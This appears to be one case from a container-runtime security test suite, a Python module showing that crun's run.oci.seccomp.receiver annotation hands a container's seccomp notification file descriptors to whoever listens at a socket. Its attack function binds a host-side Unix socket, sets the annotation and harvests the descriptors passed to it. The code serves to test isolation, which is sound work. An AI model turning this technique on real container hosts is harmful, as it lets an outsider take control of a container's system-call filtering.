"""run.oci.seccomp.receiver gives the right to decide about the container's system calls to whoever listens at a socket."""

import os
import socket

from bypass import inert, profile

SOURCE = "idea: crun(1)"
WAY = "create"
STOPPED = inert("the annotation is removed, and nobody is connected to")
BARE = {"runc": "runc reads no run.oci annotation"}


def attack(t):
    server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    server.bind("/mnt/host/receiver")
    server.listen()
    server.settimeout(0.1)
    t.spec["linux"]["seccomp"] = profile.all_but(profile.rule("swapon", "ERRNO"))
    t.annotation("run.oci.seccomp.receiver", "/mnt/host/receiver")
    t.run("true")
    try:
        handles = socket.recv_fds(server.accept()[0], 65536, 4)[1]
    except OSError:
        return ""
    return [os.readlink("/proc/self/fd/%d" % handle) for handle in handles]
